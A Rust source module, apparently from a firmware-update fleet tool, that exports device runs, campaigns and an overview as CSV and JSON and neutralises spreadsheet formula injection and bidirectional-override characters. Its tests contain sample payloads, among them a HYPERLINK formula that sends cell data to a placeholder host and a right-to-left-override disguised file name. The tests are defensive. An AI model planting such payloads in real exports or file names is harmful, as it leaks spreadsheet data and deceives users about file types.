//! Exports for reports and tickets: a run's and a campaign's devices as CSV (each Cloud
//! text neutralised for spreadsheets), and a run or campaign as indented JSON.

use std::borrow::Cow;

use super::campaign::{Campaign, CampaignDevice};

use super::call::describe;
use super::call::wave_name;
use super::codes::Catalogue;
use super::run::Run;

/// A cell as a spreadsheet may safely open it: text from the Cloud (a device name, a serial
/// number, a version) that starts with `=`, `+`, `-`, `@`, a tab or a carriage return would
/// be read as a formula (`=HYPERLINK(…)`), so it gets a leading `'` — OWASP's rule for CSV
/// injection. Direction controls are shown as their code points, as on the page
/// ([`super::text::controls_shown`]). Every other cell is left as it is.
pub fn cell(text: &str) -> Cow<'_, str> {
    let text = super::text::controls_shown(text);
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{text}"))
    } else {
        text
    }
}

/// One row per device of the batch: followed devices with their end, the rest with why
/// they were not sent or not started.
pub fn csv(run: &Run, catalogue: &Catalogue) -> String {
    let mut table = CsvText::default();
    table.row(&[
        "run",
        "serial_number",
        "device",
        "from_version",
        "target_version",
        "outcome",
        "final",
        "attempt",
    ]);
    let run_id = run.id.to_string();
    let target = run.firmware.version.to_string();
    for device in &run.devices {
        let attempt = device.attempt.to_string();
        let outcome = describe(&device.state, catalogue);
        let done = if device.state.is_final() { "yes" } else { "no" };
        table.neutralised_row([
            &run_id,
            &device.sn,
            &device.name,
            &device.from,
            &target,
            &outcome,
            done,
            &attempt,
        ]);
    }
    for left in &run.left_out {
        let sent = run.sent.iter().find(|s| s.sn == left.sn);
        let (name, from) = sent.map_or(("", ""), |s| (s.name.as_str(), s.from.as_str()));
        let outcome = left.reason.describe(catalogue);
        table.neutralised_row([&run_id, &left.sn, name, from, &target, &outcome, "yes", ""]);
    }
    table.0
}

/// One row per device of a campaign's scope: its batch key, wave, run and where it stands.
pub fn campaign_csv(
    campaign: &Campaign,
    devices: &[CampaignDevice],
    catalogue: &Catalogue,
) -> String {
    let mut table = CsvText::default();
    table.row(&[
        "campaign",
        "serial_number",
        "batch",
        "target_version",
        "wave",
        "run",
        "outcome",
        "final",
    ]);
    let id = campaign.id.to_string();
    for device in devices {
        let key = &campaign.keys[device.key];
        let target = key.firmware.as_ref().map(|f| f.version.to_string()).unwrap_or_default();
        let wave = device.wave.map(wave_name).unwrap_or_default();
        let run = device.run.map(|r| r.to_string()).unwrap_or_default();
        let kind = device.status.kind();
        let done = if matches!(
            kind,
            super::campaign::StatusKind::InProgress | super::campaign::StatusKind::Waiting
        ) {
            "no"
        } else {
            "yes"
        };
        table.neutralised_row([
            &id,
            &device.sn,
            &key.label,
            &target,
            &wave,
            &run,
            &device.status.describe(catalogue),
            done,
        ]);
    }
    table.0
}

/// The campaign as saved (plan, waves, calls, log); its runs export on their own.
pub fn campaign_json(campaign: &Campaign) -> String {
    indented(&super::history::encode_campaign(campaign))
}

/// CSV text as RFC 4180 has it, rows ended by `\n` (as the csv crate wrote them): a cell
/// holding a comma, a quote or a line break is quoted, its quotes doubled. By hand: the csv
/// crate's writer also carries a quoting style that tells numbers apart, which links the
/// standard library's float parser and its 21 KB table; 10 KB of wasm gzip in all.
#[derive(Default)]
struct CsvText(String);

impl CsvText {
    fn row(&mut self, cells: &[&str]) {
        for (i, cell) in cells.iter().enumerate() {
            if i > 0 {
                self.0.push(',');
            }
            if cell.contains([',', '"', '\n', '\r']) {
                self.0.push('"');
                self.0.push_str(&cell.replace('"', "\"\""));
                self.0.push('"');
            } else {
                self.0.push_str(cell);
            }
        }
        self.0.push('\n');
    }

    /// A row of text from the Cloud, each cell neutralised.
    fn neutralised_row(&mut self, cells: [&str; 8]) {
        let cells = cells.map(cell);
        self.row(&cells.each_ref().map(|c| c.as_ref()));
    }
}

/// Where the fleet stands, one row per model and hardware (the overview's table).
pub fn overview_csv(overview: &super::overview::Overview) -> String {
    let mut table = CsvText::default();
    table.row(&[
        "family",
        "model",
        "hardware",
        "product",
        "devices",
        "newest_release",
        "on_newest",
        "behind",
        "behind_by",
        "test_build",
        "not_comparable",
        "offline",
        "warning",
        "on_air",
        "versions",
        "online_unknown",
        "on_air_unknown",
        "newest_undecided",
    ]);
    for family in &overview.families {
        for key in &family.keys {
            let by: Vec<String> =
                key.behind.iter().map(|(n, count)| format!("{n}:{count}")).collect();
            let by = by.join(" ");
            let versions: Vec<String> =
                key.versions.iter().map(|(v, count, _)| format!("{v}:{count}")).collect();
            let versions = versions.join(" ");
            let model = key.key.model.to_string();
            let numbers = [
                key.devices,
                key.on_newest,
                key.behind_total(),
                key.test_build,
                key.unknown,
                key.offline,
                key.warning,
                key.on_air,
                key.online_unknown,
                key.air_unknown,
            ]
            .map(|n| n.to_string());
            let undecided = key.undecided.clone().unwrap_or_default();
            let newest = key.newest.map(|v| v.to_string()).unwrap_or_default();
            let cells = [
                family.name.as_str(),
                &model,
                &key.key.hardware,
                &key.label,
                &numbers[0],
                &newest,
                &numbers[1],
                &numbers[2],
                &by,
                &numbers[3],
                &numbers[4],
                &numbers[5],
                &numbers[6],
                &numbers[7],
                &versions,
                &numbers[8],
                &numbers[9],
                &undecided,
            ]
            .map(cell);
            table.row(&cells.each_ref().map(|c| c.as_ref()));
        }
    }
    table.0
}

/// The whole run, as saved.
pub fn json(run: &Run) -> String {
    indented(&super::history::stored::encode_whole_run(run))
}

/// Compact JSON laid out as `serde_json::to_string_pretty` would (two spaces a level). By
/// hand because serde's pretty writer instantiates every record type's serializer a second
/// time: 4.2 KB of wasm (gzip) for the two exports.
pub fn indented(compact: &str) -> String {
    let mut out = String::with_capacity(compact.len() * 2);
    let (mut depth, mut in_string, mut escaped) = (0usize, false, false);
    let mut chars = compact.chars().peekable();
    let newline = |out: &mut String, depth: usize| {
        out.push('\n');
        out.extend(std::iter::repeat_n("  ", depth));
    };
    while let Some(c) = chars.next() {
        if in_string {
            out.push(c);
            match c {
                _ if escaped => escaped = false,
                '\\' => escaped = true,
                '"' => in_string = false,
                _ => {}
            }
            continue;
        }
        match c {
            '"' => {
                in_string = true;
                out.push(c);
            }
            '{' | '[' => {
                out.push(c);
                let close = if c == '{' { '}' } else { ']' };
                if chars.peek() == Some(&close) {
                    out.push(close);
                    chars.next();
                } else {
                    depth += 1;
                    newline(&mut out, depth);
                }
            }
            '}' | ']' => {
                depth = depth.saturating_sub(1);
                newline(&mut out, depth);
                out.push(c);
            }
            ',' => {
                out.push(c);
                newline(&mut out, depth);
            }
            ':' => out.push_str(": "),
            _ => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn json_is_laid_out_as_serde_would() {
        let value = serde_json::json!({
            "a": [1, {"b": "x, {y}: \"z\" \\"}, [], {}],
            "c": null, "d": {"e": [true]}
        });
        let compact = serde_json::to_string(&value).unwrap();
        assert_eq!(indented(&compact), serde_json::to_string_pretty(&value).unwrap());
    }
    use crate::domain::tracking::Tracked;
    use crate::testing::{context, plan};

    #[test]
    fn cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
        for text in
            ["=HYPERLINK(\"http://x/?\"&A1,\"click\")", "+1", "-2", "@SUM(A1)", "\tx", "\rx"]
        {
            assert_eq!(cell(text), format!("'{text}"), "{text:?}");
        }
        for text in ["C221081600019", "Ultra Stream HDMI", "1.5.178", "", "a=b", " =x"] {
            assert_eq!(cell(text), text, "{text:?}");
        }
    }

    #[test]
    fn a_direction_override_is_shown_not_obeyed_in_a_cell() {
        assert_eq!(cell("safe\u{202E}gnp.exe"), "safe[U+202E]gnp.exe");
        assert_eq!(cell("=\u{2067}x"), "'=[U+2067]x");
        assert_eq!(cell("עברית"), "עברית", "right-to-left letters are text, kept");
    }

    #[test]
    fn a_device_named_as_a_formula_is_exported_as_text() {
        let mut run = Run::begin(&plan(&["A"]), context(1));
        run.unknown("x".into(), "".into(), 0);
        run.devices[0].name = "=HYPERLINK(\"http://x/?\"&A1,\"click\")".into();
        run.devices[0].sn = "@A".into();
        let text = csv(&run, &Catalogue::builtin());
        let row = text.lines().nth(1).unwrap();
        assert!(row.starts_with("1,'@A,\"'=HYPERLINK("), "{row}");
    }

    #[test]
    fn csv_has_a_header_and_one_row_per_device() {
        let mut run = Run::begin(&plan(&["A", "B", "C"]), context(4));
        run.unknown("x".into(), "".into(), 0);
        run.devices[0].state = Tracked::Verified;
        run.devices[1].state = Tracked::InstallFailed { code: 103, step: 3 };
        run.devices.truncate(2);
        run.left_out.push(crate::domain::run::LeftOutDevice {
            sn: "C".into(),
            reason: crate::domain::call::NotFollowed::AlreadyUpgrading,
        });
        let text = csv(&run, &Catalogue::builtin());
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 4);
        assert_eq!(
            lines[0],
            "run,serial_number,device,from_version,target_version,outcome,final,attempt"
        );
        assert_eq!(lines[1], "4,A,Ultra Stream HDMI,1.5.79,1.5.178,verified,yes,1");
        assert_eq!(
            lines[2],
            "4,B,Ultra Stream HDMI,1.5.79,1.5.178,install failed at step 3: flash write failed (code 103),yes,1"
        );
        assert_eq!(
            lines[3],
            "4,C,Ultra Stream HDMI,1.5.79,1.5.178,not started: already upgrading,yes,"
        );
    }

    #[test]
    fn csv_cells_read_back_as_written_whatever_they_hold() {
        let cells = ["plain", "a, b", "say \"hi\"", "two\nlines", "cr\r", "", "=1+1", "\""];
        let mut table = CsvText::default();
        table.neutralised_row(cells);
        table.neutralised_row(["", "", "", "", "", "", "", ""]);
        let mut reader =
            csv::ReaderBuilder::new().has_headers(false).from_reader(table.0.as_bytes());
        let rows: Vec<Vec<String>> =
            reader.records().map(|r| r.unwrap().iter().map(str::to_string).collect()).collect();
        assert_eq!(rows.len(), 2);
        assert_eq!(rows[0], cells.map(|c| cell(c).into_owned()));
        assert_eq!(rows[1], vec![String::new(); 8]);
    }

    #[test]
    fn json_is_the_saved_run() {
        let run = Run::begin(&plan(&["A"]), context(2));
        assert_eq!(super::super::history::read_run(&json(&run)).unwrap(), run);
    }

    /// The hand-written writers checked against the libraries they stand in for, on
    /// generated input (natively: proptest needs an OS random source).
    #[cfg(not(target_arch = "wasm32"))]
    mod against_the_libraries {
        use proptest::prelude::*;
        use serde_json::Value;

        use super::super::{CsvText, indented};

        /// Any JSON: every kind of scalar (text with quotes, escapes, braces and commas in
        /// it), nested arrays and objects, empty ones included.
        fn json() -> impl Strategy<Value = Value> {
            let text = prop_oneof![
                any::<String>(),
                prop::sample::select(vec!["", "\\", "\"", "{}", "[]", ":,", "a\"b\\c"])
                    .prop_map(str::to_string),
            ];
            let leaf = prop_oneof![
                Just(Value::Null),
                any::<bool>().prop_map(Value::from),
                any::<i64>().prop_map(Value::from),
                any::<f64>().prop_filter("finite", |f| f.is_finite()).prop_map(Value::from),
                text.clone().prop_map(Value::from),
            ];
            leaf.prop_recursive(4, 48, 6, move |inner| {
                prop_oneof![
                    prop::collection::vec(inner.clone(), 0..5).prop_map(Value::Array),
                    prop::collection::vec((text.clone(), inner), 0..5)
                        .prop_map(|pairs| Value::Object(pairs.into_iter().collect())),
                ]
            })
        }

        proptest! {
            #[test]
            fn indentation_is_what_serde_json_pretty_prints(value in json()) {
                let compact = serde_json::to_string(&value).unwrap();
                prop_assert_eq!(indented(&compact), serde_json::to_string_pretty(&value).unwrap());
            }

            #[test]
            fn csv_rows_read_back_through_the_csv_crate_as_written(
                rows in prop::collection::vec(
                    prop::collection::vec(
                        prop_oneof![
                            any::<String>(),
                            prop::sample::select(vec!["", ",", "\"", "\n", "\r\n", "a,\"b\"\r"])
                                .prop_map(str::to_string),
                        ],
                        3,
                    ),
                    1..6,
                )
            ) {
                let mut table = CsvText::default();
                for row in &rows {
                    table.row(&row.iter().map(String::as_str).collect::<Vec<_>>());
                }
                let read: Vec<Vec<String>> = csv::ReaderBuilder::new()
                    .has_headers(false)
                    .from_reader(table.0.as_bytes())
                    .records()
                    .map(|r| r.unwrap().iter().map(str::to_string).collect())
                    .collect();
                prop_assert_eq!(read, rows);
            }
        }
    }
}
